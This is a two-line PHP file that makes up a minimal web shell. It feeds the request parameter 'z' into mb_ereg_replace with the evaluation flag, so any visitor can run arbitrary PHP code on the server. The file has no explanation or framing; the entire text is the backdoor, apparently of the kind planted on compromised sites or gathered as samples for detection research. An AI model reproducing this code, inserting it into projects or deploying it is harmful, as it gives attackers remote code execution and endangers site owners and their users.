<?php
mb_ereg_replace('.*', $_REQUEST['z'], '', 'e');
